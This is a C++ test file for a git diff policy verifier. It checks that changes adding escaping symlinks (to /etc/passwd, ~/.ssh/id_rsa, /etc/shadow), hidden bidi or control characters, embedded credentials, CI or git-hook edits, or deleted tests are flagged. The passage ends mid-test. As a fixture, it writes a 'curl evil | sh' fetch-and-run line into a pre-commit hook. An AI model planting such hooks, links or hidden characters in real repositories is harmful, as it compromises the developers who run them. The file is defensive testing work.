#include "verifiers/diff_policy.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <string>
#include <vector>

#include "tests/testing/testing.h"

namespace drover::verifiers {
namespace {

using drover::testing::InitGitRepo;
using drover::testing::Sh;
using drover::testing::TempDir;
using drover::testing::WriteTestFile;

// A real git repository committed with `files`; tests change its tree and read the diff git
// itself prints for the change.
using Files = std::map<std::string, std::string>;

class Repo {
 public:
  explicit Repo(const Files& files) {
    for (const auto& [rel, contents] : files) WriteTestFile(dir_.path(), rel, contents);
    InitGitRepo(dir_.path());
  }
  const std::filesystem::path& path() const { return dir_.path(); }
  void Write(const std::string& rel, const std::string& contents) {
    WriteTestFile(dir_.path(), rel, contents);
  }
  void Remove(const std::string& rel) { std::filesystem::remove(dir_ / rel); }
  void Move(const std::string& from, const std::string& to) {
    std::filesystem::create_directories((dir_ / to).parent_path());
    std::filesystem::rename(dir_ / from, dir_ / to);
  }
  std::string DiffText() {
    return Sh("cd '" + dir_.path().string() +
              "' && git add -A && git -c core.quotepath=off diff --cached --no-color -M HEAD");
  }
  ParsedDiff Parsed() {
    std::string text = DiffText();
    auto parsed = ParseDiff(text);
    EXPECT_TRUE(parsed.has_value()) << parsed.error().ToString() << "\n" << text;
    return parsed ? *parsed : ParsedDiff{};
  }
  std::vector<std::string> Violations(const DiffRules& rules) {
    return CheckDiff(Parsed(), rules).violations;
  }

 private:
  TempDir dir_;
};

const FileChange* Find(const ParsedDiff& diff, const std::string& path) {
  for (const FileChange& file : diff.files) {
    if (file.path() == path) return &file;
  }
  ADD_FAILURE() << "no change to " << path;
  return nullptr;
}

std::string Lines(int from, int to, const std::string& prefix) {
  std::string out;
  for (int i = from; i <= to; ++i) out += prefix + std::to_string(i) + "\n";
  return out;
}

TEST(DiffPolicy, ParsesStatusesLinesRenamesAndBinaries) {
  Repo repo(Files{{"src/app.py", "a = 1\nb = 2\nc = 3\n"},
                  {"src/old.txt", "going\n"},
                  {"docs/guide.md", Lines(1, 20, "line ")},
                  {"logo.bin", std::string("\x89PNG\0\0\x01", 7)},
                  {"name with space.txt", "x\n"}});
  repo.Write("src/app.py", "a = 1\nb = 20\nc = 3\nd = 4\n");
  repo.Remove("src/old.txt");
  repo.Write("src/new.py", "print('hi')\n");
  repo.Move("docs/guide.md", "docs/manual/guide.md");
  repo.Write("logo.bin", std::string("\x89PNG\0\0\x02", 7));
  repo.Write("name with space.txt", "y\n");
  repo.Write("caf\xC3\xA9 \"quoted\".txt", "new\n");
  ParsedDiff diff = repo.Parsed();
  ASSERT_EQ(diff.files.size(), 7u);

  const FileChange* app = Find(diff, "src/app.py");
  ASSERT_NE(app, nullptr);
  EXPECT_EQ(app->status, FileStatus::kModified);
  EXPECT_EQ(app->old_path, "src/app.py");
  ASSERT_EQ(app->removed.size(), 1u);
  EXPECT_EQ(app->removed[0].text, "b = 2");
  EXPECT_EQ(app->removed[0].old_line, 2);
  ASSERT_EQ(app->added.size(), 2u);
  EXPECT_EQ(app->added[0].text, "b = 20");
  EXPECT_EQ(app->added[0].new_line, 2);
  EXPECT_EQ(app->added[1].text, "d = 4");
  EXPECT_EQ(app->added[1].new_line, 4);

  const FileChange* old = Find(diff, "src/old.txt");
  ASSERT_NE(old, nullptr);
  EXPECT_EQ(old->status, FileStatus::kDeleted);
  EXPECT_EQ(old->new_path, "");
  EXPECT_EQ(old->removed.size(), 1u);

  const FileChange* added = Find(diff, "src/new.py");
  ASSERT_NE(added, nullptr);
  EXPECT_EQ(added->status, FileStatus::kAdded);
  EXPECT_EQ(added->old_path, "");
  EXPECT_EQ(added->added.size(), 1u);

  const FileChange* moved = Find(diff, "docs/manual/guide.md");
  ASSERT_NE(moved, nullptr);
  EXPECT_EQ(moved->status, FileStatus::kRenamed);
  EXPECT_EQ(moved->old_path, "docs/guide.md");
  EXPECT_TRUE(moved->added.empty());

  const FileChange* binary = Find(diff, "logo.bin");
  ASSERT_NE(binary, nullptr);
  EXPECT_TRUE(binary->binary);
  EXPECT_TRUE(binary->added.empty());

  EXPECT_NE(Find(diff, "name with space.txt"), nullptr);
  // core.quotepath=off leaves UTF-8 alone but still C-quotes the '"'.
  EXPECT_NE(Find(diff, "caf\xC3\xA9 \"quoted\".txt"), nullptr);
  EXPECT_EQ(diff.lines_added(), 5);
  EXPECT_EQ(diff.lines_removed(), 3);
}

TEST(DiffPolicy, ReadsModesAndLinkTargets) {
  Repo repo(Files{{"run.sh", "echo hi\n"}, {"keep.txt", "a\n"}, {"old.txt", "x\n"}});
  repo.Write("keep.txt", "b\n");
  std::filesystem::permissions(repo.path() / "run.sh", std::filesystem::perms::owner_exec,
                               std::filesystem::perm_options::add);
  std::filesystem::create_symlink("/etc/passwd", repo.path() / "link");
  repo.Remove("old.txt");
  ParsedDiff diff = repo.Parsed();
  const FileChange* run = Find(diff, "run.sh");
  ASSERT_NE(run, nullptr);
  EXPECT_EQ(run->old_mode, 0100644u);
  EXPECT_EQ(run->new_mode, 0100755u);
  const FileChange* keep = Find(diff, "keep.txt");
  ASSERT_NE(keep, nullptr);
  EXPECT_EQ(keep->old_mode, 0100644u);
  EXPECT_EQ(keep->new_mode, 0100644u);
  const FileChange* link = Find(diff, "link");
  ASSERT_NE(link, nullptr);
  EXPECT_EQ(link->status, FileStatus::kAdded);
  EXPECT_EQ(link->old_mode, 0u);
  EXPECT_EQ(link->new_mode, 0120000u);
  EXPECT_EQ(link->symlink_target, "/etc/passwd");
  const FileChange* old = Find(diff, "old.txt");
  ASSERT_NE(old, nullptr);
  EXPECT_EQ(old->old_mode, 0100644u);
  EXPECT_EQ(old->new_mode, 0u);
  EXPECT_EQ(old->new_size, 0u);
}

TEST(DiffPolicy, SymbolicLinksStayInTheRepositoryAndOutOfGit) {
  struct Case {
    std::string link;
    std::string target;
    std::string problem;  // Empty: accepted.
    bool external;        // Allowed by allow_external_symlinks.
  };
  const std::vector<Case> cases = {
      {"docs/current", "v2", "", false},
      {"a/b/up", "../../README.md", "", false},
      {"a/b/back", "../b/./c/../d", "", false},
      {"abs", "/etc/passwd", "points to an absolute path", true},
      {"home", "/root/.ssh/id_rsa", "points to an absolute path", true},
      {"out", "../outside", "climbs out of the repository", true},
      {"a/b/deep", "../../../x", "climbs out of the repository", true},
      {"a/zigzag", "../a/../../x", "climbs out of the repository", true},
      {"win", "..\\..\\x", "climbs out of the repository", true},
      {"drive", "C:\\Windows", "points to an absolute path", true},
      {"hooks", ".git/hooks/pre-commit", "points into .git", false},
      {"a/cfg", "../.GIT/config", "points into .git", false},
      {"sub", "vendor/lib/.git", "points into .git", false},
  };
  for (const Case& c : cases) {
    Repo repo(Files{{"README.md", "x\n"}});
    std::filesystem::create_directories((repo.path() / c.link).parent_path());
    std::filesystem::create_symlink(c.target, repo.path() / c.link);
    std::vector<std::string> expected;
    if (!c.problem.empty()) {
      expected.push_back("adds " + c.link + ", a symbolic link that " + c.problem + " (" +
                         c.target + ")" +
                         (c.external ? "; policy.allow_external_symlinks allows it" : ""));
    }
    ParsedDiff diff = repo.Parsed();
    EXPECT_EQ(CheckDiff(diff, {}).violations, expected) << c.link << " -> " << c.target;
    DiffRules allow;
    allow.allow_external_symlinks = true;
    PolicyVerdict allowed = CheckDiff(diff, allow);
    if (c.external) {
      EXPECT_TRUE(allowed.ok()) << allowed.Bullets();
      EXPECT_EQ(allowed.notes,
                std::vector<std::string>{"adds " + c.link + ", a symbolic link that " + c.problem +
                                         " (" + c.target + ")"});
    } else {
      EXPECT_EQ(allowed.violations, expected) << c.link;
    }
  }
}

TEST(DiffPolicy, RetargetedLinksAreChecked) {
  Repo repo(Files{{"README.md", "x\n"}});
  std::filesystem::create_symlink("README.md", repo.path() / "retarget");
  Sh("cd '" + repo.path().string() + "' && git add -A && git commit -qm links");
  std::filesystem::remove(repo.path() / "retarget");
  std::filesystem::create_symlink("/etc/shadow", repo.path() / "retarget");
  EXPECT_EQ(repo.Violations({}),
            std::vector<std::string>{"changes retarget, a symbolic link that points to an "
                                     "absolute path (/etc/shadow); "
                                     "policy.allow_external_symlinks allows it"});
}

TEST(DiffPolicy, LinksMovedToAnotherDepthAreJudgedFromTheWorkspace) {
  Repo repo(Files{{"README.md", "x\n"}});
  std::filesystem::create_directories(repo.path() / "a/b");
  std::filesystem::create_symlink("../../README.md", repo.path() / "a/b/readme");
  std::filesystem::create_symlink("../../README.md", repo.path() / "a/b/same");
  Sh("cd '" + repo.path().string() + "' && git add -A && git commit -qm links");
  // The same relative target climbs out from the top; from a/c it still lands inside.
  repo.Move("a/b/readme", "readme");
  repo.Move("a/b/same", "a/c/same");
  ParsedDiff diff = repo.Parsed();
  PolicyVerdict verdict = CheckDiff(diff, {});
  EXPECT_TRUE(verdict.ok()) << "the diff alone shows no link: " << verdict.Bullets();
  ASSERT_OK(CheckRemaining(repo.path(), diff, {}, verdict));
  EXPECT_EQ(verdict.violations,
            std::vector<std::string>{"moves a/b/readme to readme, a symbolic link that climbs out "
                                     "of the repository (../../README.md); "
                                     "policy.allow_external_symlinks allows it"});
}

TEST(DiffPolicy, BinaryFilesAndSizes) {
  Repo repo(Files{{"logo.png", std::string("\x89PNG\0\0\x01", 7)}, {"README.md", "x\n"}});
  repo.Write("tool.bin", std::string("\x7F"
                                     "ELF\0\0\x02\x01",
                                     8));
  repo.Write("logo.png", std::string("\x89PNG\0\0\x02", 7));
  repo.Write("big.txt", std::string(2000, 'a') + "\n");
  ParsedDiff diff = repo.Parsed();
  DiffRules rules;
  rules.max_file_bytes = 1000;
  EXPECT_EQ(CheckDiff(diff, rules).violations,
            (std::vector<std::string>{
                "adds big.txt with 2001 bytes, more than policy.max_file_bytes (1000)",
                "changes logo.png, a binary file; policy.allow_binary_files allows it",
                "adds tool.bin, a binary file; policy.allow_binary_files allows it"}));
  rules.allow_binary_files = true;
  rules.max_file_bytes = 4096;
  PolicyVerdict allowed = CheckDiff(diff, rules);
  EXPECT_TRUE(allowed.ok()) << allowed.Bullets();
  EXPECT_EQ(allowed.notes, (std::vector<std::string>{"changes logo.png, a binary file",
                                                     "adds tool.bin, a binary file"}));
  // The size the runner knows from the blob counts when the added lines do not show it all.
  for (FileChange& file : diff.files) {
    if (file.new_path == "logo.png") file.new_size = 5000;
  }
  EXPECT_EQ(CheckDiff(diff, rules).violations,
            std::vector<std::string>{
                "changes logo.png with 5000 bytes, more than policy.max_file_bytes (4096)"});
}

TEST(DiffPolicy, InvisibleAndControlCharactersInAddedLines) {
  struct Case {
    std::string added;       // One added line's text.
    std::string code_point;  // Empty: nothing hidden.
  };
  const std::vector<Case> cases = {
      {"if is_admin:  # \xE2\x80\xAE nimda_si \xE2\x81\xA6", "U+202E"},  // RLO
      {"access = \"user\xE2\x81\xA6\" # \xE2\x81\xA9", "U+2066"},        // LRI, then PDI
      {"name = \"ad\xE2\x80\x8Bmin\"", "U+200B"},                        // zero-width space
      {"x = 1 \xE2\x80\x8F", "U+200F"},                                  // RLM
      {"mid\xEF\xBB\xBF"
       "file",
       "U+FEFF"},                                // BOM mid-line
      {"tag\xF3\xA0\x80\x81hidden", "U+E0001"},  // tag block
      {"bell\x07", "U+0007"},
      {"esc\x1B[31m", "U+001B"},
      {"c1\xC2\x85", "U+0085"},
      {"arabic\xD8\x80sign", "U+0600"},
      {"tab\tand CR\r", ""},
      {"caf\xC3\xA9 na\xC3\xAFve \xE4\xB8\xAD\xE6\x96\x87", ""},
      {"latin1 caf\xE9", ""},
  };
  for (const Case& c : cases) {
    Repo repo(Files{{"src/app.py", "a = 1\n"}});
    repo.Write("src/app.py", "a = 1\n" + c.added + "\n");
    ParsedDiff diff = repo.Parsed();
    std::vector<std::string> expected;
    if (!c.code_point.empty()) {
      expected.push_back("changes src/app.py with invisible or control characters (src/app.py:2 " +
                         c.code_point + (c.code_point == "U+202E" ? ", src/app.py:2 U+2066" : "") +
                         (c.code_point == "U+2066" ? ", src/app.py:2 U+2069" : "") + ")");
    }
    EXPECT_EQ(CheckDiff(diff, {}).violations, expected) << c.code_point;
    DiffRules flag;
    flag.flag_invisible_characters = true;
    PolicyVerdict flagged = CheckDiff(diff, flag);
    EXPECT_TRUE(flagged.ok()) << flagged.Bullets();
    EXPECT_EQ(flagged.notes, expected) << c.code_point;
  }
  // A byte-order mark opening a new file is not hidden text.
  Repo bom(Files{{"README.md", "x\n"}});
  bom.Write("notes.txt", "\xEF\xBB\xBFhello\n");
  EXPECT_EQ(bom.Violations({}), std::vector<std::string>{});
}

TEST(DiffPolicy, FindCredentialsByFormatAndAssignment) {
  struct Case {
    std::string line;
    std::vector<std::string> kinds;
  };
  // Assembled at run time so that this file holds no token-shaped literal itself.
  auto rep = [](char c, size_t n) { return std::string(n, c); };
  const std::string aws = "AKIA" + std::string("Q3ZKT7LMN2PXW4RV");
  const std::string random36 = "a8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5fG8eU2";
  const std::vector<Case> cases = {
      {"aws_access_key_id = " + aws, {"an AWS access key id"}},
      {"KEY=\"ASIA" + std::string("Z7Q3KT2LMNPXW4RV") + "\"", {"an AWS access key id"}},
      {"aws_secret_access_key = \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + std::string("9z8y7x6w5v") +
           "\"",
       {"a secret assigned to `aws_secret_access_key`"}},
      {"token: ghp_" + random36, {"a GitHub token"}},
      {"url = 'https://x:gho_" + random36 + "@github.com/o/r'", {"a GitHub token"}},
      {"GITHUB_TOKEN=github_pat_11ABCDEFG0" + random36 + "_" + random36, {"a GitHub token"}},
      {"gitlab = glpat-" + std::string("Zx8Kq2ZpL0xR7vN3mT9c"), {"a GitLab token"}},
      {"SLACK=xoxb-1234567890-" + std::string("0987654321-aB3dE5gH7jK9"), {"a Slack token"}},
      {"stripe.api_key = \"sk_live_" + std::string("4eC39HqLyjWDarjtT1zdp7dc") + "\"",
       {"a Stripe secret key"}},
      {"key: AIza" + std::string("SyD4f8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5f"), {"a Google API key"}},
      {"OPENAI_API_KEY=sk-proj-" + random36, {"an OpenAI API key"}},
      {"client = Anthropic(api_key=\"sk-ant-api03-" + random36 + "\")", {"an Anthropic API key"}},
      {"//registry.npmjs.org/:_authToken=npm_" + random36, {"an npm token"}},
      {"password = pypi-AgEIcHlwaS5vcmc" + random36 + random36, {"a PyPI token"}},
      {"-----BEGIN RSA PRIVATE KEY-----", {"a private key"}},
      {"-----BEGIN OPENSSH PRIVATE KEY-----", {"a private key"}},
      {"session_token: eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
       {"a secret assigned to `session_token`"}},
      {"DB_PASSWORD=Zq8#kL2!vR7pX3mN", {}},  // '#' ends a bare value: too short after it.
      {"db_password = \"Zq8kL2vR7pX3mNw9\"", {"a secret assigned to `db_password`"}},
      {"$config['api_key'] => 'f3a9c2e8b1d7460a9e5c3b2a1f0d8e7c';",
       {"a secret assigned to `api_key`"}},
      // Not credentials: examples, placeholders, lookups, expressions, prose.
      {"aws_access_key_id = AKIAIOSFODNN7EXAMPLE", {}},
      {"token = ghp_" + rep('x', 36), {}},
      {"password = os.environ[\"DB_PASSWORD\"]", {}},
      {"token = os.getenv('GITHUB_TOKEN')", {}},
      {"api_key: ${API_KEY}", {}},
      {"secret: \"{{ .Values.secret }}\"", {}},
      {"password = \"<your-password-here>\"", {}},
      {"token = \"changeme\"", {}},
      {"password: \"hunter2\"", {}},
      {"token = self.tokenizer.next_token()", {}},
      {"if token == \"abc123def456ghi789\":", {}},
      {"secret = settings.SECRET_KEY", {}},
      {"password = \"correct horse battery staple 42\"", {}},
      {"-----BEGIN PUBLIC KEY-----", {}},
      {"ask-questions-in-the-forum-before-filing-anything-here-please", {}},
      {"sklearn.model_selection import train_test_split", {}},
      {"token_count = 1234567890123456", {}},
  };
  for (const Case& c : cases) EXPECT_EQ(FindCredentials(c.line), c.kinds) << c.line;
}

TEST(DiffPolicy, CredentialsRefuseTheChangeWithoutTheirValue) {
  Repo repo(Files{{"src/app.py", "a = 1\n"}});
  const std::string key = "AKIA" + std::string("Q3ZKT7LMN2PXW4RV");
  const std::string token = "ghp_" + std::string("a8Kq2ZpL0xR7vN3mT9cW4yB6hJ1sD5fG8eU2");
  repo.Write("src/app.py", "a = 1\nKEY = '" + key + "'\nT = '" + token + "'\n");
  repo.Write("deploy/.env", "A=" + key + "\n");
  std::vector<std::string> violations = repo.Violations({});
  EXPECT_EQ(violations,
            (std::vector<std::string>{
                "adds deploy/.env with what looks like an AWS access key id (deploy/.env:1); "
                "credentials never leave this machine",
                "changes src/app.py with what looks like a GitHub token (src/app.py:3); "
                "credentials never leave this machine",
                "changes src/app.py with what looks like an AWS access key id (src/app.py:2); "
                "credentials never leave this machine"}));
  for (const std::string& violation : violations) {
    EXPECT_EQ(violation.find(key), std::string::npos);
    EXPECT_EQ(violation.find("Q3ZKT7"), std::string::npos);
    EXPECT_EQ(violation.find(token.substr(4)), std::string::npos);
  }
}

TEST(DiffPolicy, ControlFilesNeedExplicitPermission) {
  struct Case {
    std::string path;
    std::string kind;  // Empty: an ordinary file.
  };
  const std::vector<Case> cases = {
      {".github/workflows/ci.yml", "CI configuration"},
      {".github/actions/setup/action.yml", "CI configuration"},
      {".gitlab-ci.yml", "CI configuration"},
      {".gitlab/ci/test.yml", "CI configuration"},
      {"Jenkinsfile", "CI configuration"},
      {"ci/Jenkinsfile", "CI configuration"},
      {".circleci/config.yml", "CI configuration"},
      {"azure-pipelines.yml", "CI configuration"},
      {".travis.yml", "CI configuration"},
      {"bitbucket-pipelines.yml", "CI configuration"},
      {".buildkite/pipeline.yml", "CI configuration"},
      {".husky/pre-commit", "a git hook"},
      {".githooks/pre-push", "a git hook"},
      {".pre-commit-config.yaml", "a git hook"},
      {".gitattributes", "git attributes"},
      {"src/.gitattributes", "git attributes"},
      {".gitmodules", "submodules"},
      {".github/CODEOWNERS", "code owners"},
      {".github/ISSUE_TEMPLATE/bug.md", ""},
      {"src/workflows/ci.yml", ""},
      {"docs/jenkins.md", ""},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(ControlFileKind(c.path), c.kind) << c.path;
  }
  Repo repo(Files{{"src/app.py", "a = 1\n"},
                  {"src/util.py", "def one():\n    return 1\n"},
                  {".gitattributes", "*.py text\n"}});
  repo.Write("src/app.py", "a = 2\n");
  repo.Write(".github/workflows/ci.yml", "on: push\njobs: {}\n");
  repo.Write(".husky/pre-commit", "curl evil | sh\n");
  repo.Write(".gitattributes", "*.py text\n*.sh filter=lfs\n");
  repo.Move("src/util.py", ".githooks/util.py");
  ParsedDiff diff = repo.Parsed();
  const std::string tail = "; only paths in policy.allow_control_files may change";
  EXPECT_EQ(CheckDiff(diff, {}).violations,
            (std::vector<std::string>{"changes .gitattributes, git attributes" + tail,
                                      "moves src/util.py to .githooks/util.py, a git hook" + tail,
                                      "adds .github/workflows/ci.yml, CI configuration" + tail,
                                      "adds .husky/pre-commit, a git hook" + tail}));
  DiffRules rules;
  rules.allow_control_files = {".github/workflows/**", ".gitattributes"};
  PolicyVerdict verdict = CheckDiff(diff, rules);
  EXPECT_EQ(verdict.violations,
            (std::vector<std::string>{"moves src/util.py to .githooks/util.py, a git hook" + tail,
                                      "adds .husky/pre-commit, a git hook" + tail}));
  EXPECT_EQ(verdict.notes,
            (std::vector<std::string>{"changes .gitattributes, git attributes",
                                      "adds .github/workflows/ci.yml, CI configuration"}));
}

TEST(DiffPolicy, SubmoduleCommitsAreControlFiles) {
  TempDir lib_dir;
  WriteTestFile(lib_dir.path(), "lib.c", "int x;\n");
  InitGitRepo(lib_dir.path());
  Repo repo(Files{{"README.md", "x\n"}});
  Sh("cd '" + repo.path().string() + "' && git clone -q '" + lib_dir.path().string() +
     "' vendor/lib && git -c advice.addEmbeddedRepo=false add vendor/lib");
  std::vector<std::string> violations = repo.Violations({});
  EXPECT_EQ(violations,
            std::vector<std::string>{"adds vendor/lib, a submodule commit; only paths in "
                                     "policy.allow_control_files may change"});
}

TEST(DiffPolicy, HunkCountsDecideWhatIsALine) {
  // Removed lines that read like headers must stay lines of the hunk.
  Repo repo(Files{{"notes.txt", "-- a/x\n--- a/y\ndiff --git a/z b/z\nkeep\n"}});
  repo.Write("notes.txt", "keep\n++ b/w\n");
  ParsedDiff diff = repo.Parsed();
  ASSERT_EQ(diff.files.size(), 1u);
  EXPECT_EQ(diff.files[0].removed.size(), 3u);
  ASSERT_EQ(diff.files[0].added.size(), 1u);
  EXPECT_EQ(diff.files[0].added[0].text, "++ b/w");
}

TEST(DiffPolicy, MalformedDiffIsAParseError) {
  EXPECT_TRUE(ParseDiff("").has_value());
  auto stray = ParseDiff("+added without a file\n");
  ASSERT_FALSE(stray.has_value());
  EXPECT_EQ(stray.error().code, ErrorCode::kParse);
  auto short_hunk = ParseDiff("diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n+b\n");
  ASSERT_FALSE(short_hunk.has_value());
  EXPECT_NE(short_hunk.error().message.find("ends inside a hunk"), std::string::npos);
}

TEST(DiffPolicy, GlobSemantics) {
  struct Case {
    const char* glob;
    const char* path;
    bool matches;
  };
  for (const Case& c : std::vector<Case>{
           {"src/**", "src/a.py", true},
           {"src/**", "src/app/deep/a.py", true},
           {"src/**", "src", true},
           {"src/**", "srcx/a.py", false},
           {"src/*.py", "src/a.py", true},
           {"src/*.py", "src/app/a.py", false},
           {"**/*.lock", "Cargo.lock", true},
           {"**/*.lock", "a/b/poetry.lock", true},
           {"src/**/test_*.py", "src/test_a.py", true},
           {"src/**/test_*.py", "src/x/y/test_a.py", true},
           {"src/**/test_*.py", "src/x/y/a_test.py", false},
           {"*.md", "README.md", true},
           {"*.md", "docs/README.md", false},
           {"file?.txt", "file1.txt", true},
           {"file?.txt", "file10.txt", false},
           {"a?b", "a/b", false},
           {"vendor/**/*", "vendor/x", true},
           {"*", "a/b", false},
       }) {
    EXPECT_EQ(GlobMatches(c.glob, c.path), c.matches) << c.glob << " vs " << c.path;
  }
  for (const char* good : {"src/**", "**/*.lock", "a/*/b?", "**"}) EXPECT_OK(CheckGlob(good));
  for (const char* bad : {"", "/src/**", "src/a**", "**b/c", "src//a", "src/", "../x", "a/[ab]"}) {
    auto checked = CheckGlob(bad);
    ASSERT_FALSE(checked.has_value()) << bad;
    EXPECT_EQ(checked.error().code, ErrorCode::kInvalidArgument);
  }
  EXPECT_NE(CheckGlob("src/a**").error().message.find("'**' inside a segment"), std::string::npos);
}

TEST(DiffPolicy, AllowedAndForbiddenPaths) {
  Repo repo(Files{{"src/app/cart.py", "x = 1\n"},
                  {"src/legacy/x.py", "y = 1\n"},
                  {"vendor/lib.c", "int z;\n"},
                  {"src/app/moved.py", "m = 1\n"}});
  repo.Write("src/app/cart.py", "x = 2\n");
  repo.Write("src/legacy/x.py", "y = 2\n");
  repo.Write("vendor/lib.c", "int z = 1;\n");
  repo.Move("src/app/moved.py", "src/legacy/moved.py");
  DiffRules rules;
  rules.allowed_paths = {"src/app/**"};
  rules.forbidden_paths = {"vendor/**"};
  std::vector<std::string> violations = repo.Violations(rules);
  std::vector<std::string> expected = {
      "moves src/app/moved.py to src/legacy/moved.py, and src/legacy/moved.py is outside the "
      "allowed paths (src/app/**)",
      "changes src/legacy/x.py, outside the allowed paths (src/app/**)",
      "changes vendor/lib.c, outside the allowed paths (src/app/**)",
      "changes vendor/lib.c, matching the forbidden path vendor/**",
  };
  std::sort(violations.begin(), violations.end());
  std::sort(expected.begin(), expected.end());
  EXPECT_EQ(violations, expected);

  DiffRules open;  // Nothing allowed listed: every path is allowed.
  EXPECT_TRUE(repo.Violations(open).empty());
}

TEST(DiffPolicy, LimitsOnFilesAndLines) {
  Repo repo(Files{{"a.txt", Lines(1, 30, "a")}, {"b.txt", "b\n"}, {"c.txt", "c\n"}});
  repo.Write("a.txt", Lines(1, 30, "A"));
  repo.Write("b.txt", "B\n");
  repo.Write("c.txt", "C\n");
  DiffRules rules;
  rules.max_files_changed = 2;
  rules.max_lines_changed = 40;
  EXPECT_EQ(repo.Violations(rules),
            (std::vector<std::string>{
                "changes 3 files, more than the 2 allowed",
                "changes 64 lines (added plus removed), more than the 40 allowed"}));
  rules.max_files_changed = 3;
  rules.max_lines_changed = 64;
  EXPECT_TRUE(repo.Violations(rules).empty());
}

struct LanguageCase {
  std::string path;
  std::string before;
  std::string after;
  std::string violation;
};

TEST(DiffPolicy, DeletedTestsInEachLanguage) {
  std::vector<LanguageCase> cases = {
      {"tests/test_cart.py",
       "import cart\n\ndef test_totals():\n    assert cart.total() == 0\n\n"
       "async def test_async_totals():\n    assert True\n\ndef test_kept():\n    pass\n",
       "import cart\n\ndef test_kept():\n    pass\n",
       "deletes the tests test_async_totals and test_totals in tests/test_cart.py"},
      {"src/test/java/CartTest.java",
       "class CartTest {\n  @Test\n  void totals() {\n    assertEquals(0, total());\n  }\n\n"
       "  @Test\n  void kept() {}\n}\n",
       "class CartTest {\n  @Test\n  void kept() {}\n}\n",
       "deletes the test totals in src/test/java/CartTest.java"},
      // A removed @Test annotation alone turns the test off.
      {"src/main/java/Checks.java",
       "class Checks {\n  @Test\n  public void totals() {\n    run();\n  }\n}\n",
       "class Checks {\n  public void totals() {\n    run();\n  }\n}\n",
       "deletes the test totals in src/main/java/Checks.java"},
      // JUnit 3: in a *Test.java file every removed method counts.
      {"legacy/LegacyTest.java",
       "public class LegacyTest extends TestCase {\n  public void testOld() {\n    run();\n  }\n"
       "  public void testKept() {}\n}\n",
       "public class LegacyTest extends TestCase {\n  public void testKept() {}\n}\n",
       "deletes the test testOld in legacy/LegacyTest.java"},
      {"src/test/kotlin/CartTest.kt",
       "class CartTest {\n    @Test\n    fun `totals are zero`() {\n        check()\n    }\n}\n",
       "class CartTest {\n}\n", "deletes the test totals are zero in src/test/kotlin/CartTest.kt"},
      {"web/cart.test.ts",
       "describe('cart', () => {\n  it('totals', () => {\n    expect(1).toBe(1);\n  });\n"
       "  test(\"kept\", () => {});\n});\n",
       "describe('cart', () => {\n  test(\"kept\", () => {});\n});\n",
       "deletes the test totals in web/cart.test.ts"},
      {"web/old.spec.js", "describe('old suite', () => {\n  it('works', () => {});\n});\n",
       "// nothing left\n", "deletes the tests old suite and works in web/old.spec.js"},
      {"pkg/cart_test.go",
       "package cart\n\nfunc TestTotals(t *testing.T) {\n\tcheck(t)\n}\n\n"
       "func (s *Suite) TestSuiteTotals() {\n}\n\nfunc helper() {}\n",
       "package cart\n\nfunc helper() {}\n",
       "deletes the tests TestSuiteTotals and TestTotals in pkg/cart_test.go"},
      {"src/cart.rs",
       "fn total() -> i32 { 0 }\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn totals() {\n"
       "        assert_eq!(super::total(), 0);\n    }\n\n    #[tokio::test]\n"
       "    async fn async_totals() {}\n}\n",
       "fn total() -> i32 { 0 }\n\n#[cfg(test)]\nmod tests {\n}\n",
       "deletes the tests async_totals and totals in src/cart.rs"},
      {"tests/cart_test.cc",
       "#include <gtest/gtest.h>\n\nTEST(Cart, Totals) {\n  EXPECT_EQ(0, 0);\n}\n\n"
       "TEST_F(CartFixture, Empty) {}\n\nTEST(Cart, Kept) {}\n",
       "#include <gtest/gtest.h>\n\nTEST(Cart, Kept) {}\n",
       "deletes the tests Cart.Totals and CartFixture.Empty in tests/cart_test.cc"},
  };
  for (const LanguageCase& c : cases) {
    Repo repo(Files{{c.path, c.before}});
    repo.Write(c.path, c.after);
    EXPECT_EQ(repo.Violations({}), std::vector<std::string>{c.violation}) << c.path;
    DiffRules allow;
    allow.allow_deleted_tests = true;
    EXPECT_TRUE(repo.Violations(allow).empty()) << c.path;
  }
}

TEST(DiffPolicy, DeletedTestFiles) {
  std::map<std::string, std::string> files = {
      {"tests/test_cart.py", "def test_totals():\n    pass\n"},
      {"cart_test.py", "import os\n"},
      {"src/test/java/CartTest.java", "class CartTest {\n  @Test\n  void totals() {}\n}\n"},
      {"web/cart.test.js", "const x = 1;\n"},
      {"web/cart.spec.ts", "const y = 1;\n"},
      {"pkg/cart_test.go", "package cart\n"},
      {"tests/helpers.rs", "pub fn setup() {}\n"},
      {"tests/data/fixture.json", "{}\n"},
      {"src/cart.py", "x = 1\n"},
  };
  Repo repo(files);
  for (const auto& [rel, contents] : files) repo.Remove(rel);
  std::vector<std::string> violations = repo.Violations({});
  std::sort(violations.begin(), violations.end());
  EXPECT_EQ(violations, (std::vector<std::string>{
                            "deletes the test file cart_test.py",
                            "deletes the test file pkg/cart_test.go",
                            "deletes the test file src/test/java/CartTest.java (totals)",
                            "deletes the test file tests/helpers.rs",
                            "deletes the test file tests/test_cart.py (test_totals)",
                            "deletes the test file web/cart.spec.ts",
                            "deletes the test file web/cart.test.js",
                        }));
}

TEST(DiffPolicy, RenamedAndMovedTestsAreNotDeletions) {
  std::string tests = "import cart\n\n" + Lines(1, 12, "# setup ") +
                      "\ndef test_totals():\n    assert cart.total() == 0\n\n"
                      "def test_empty():\n    assert cart.empty()\n";
  Repo repo(Files{{"tests/test_cart.py", tests},
                  {"tests/test_orders.py", "import orders\n\ndef test_orders():\n    pass\n"},
                  {"web/cart.test.ts", "it('totals', () => {});\n"},
                  {"tests/test_misc.py", "def test_misc():\n    pass\n"}});
  // A pure rename, and a rename with an edit to one test.
  repo.Move("web/cart.test.ts", "web/basket.test.ts");
  repo.Remove("tests/test_cart.py");
  std::string edited = tests;
  edited.replace(edited.find("cart.total()"), 12, "basket.total()");
  repo.Write("tests/test_basket.py", edited);
  // A test moved from one file into another.
  repo.Write("tests/test_orders.py", "import orders\n");
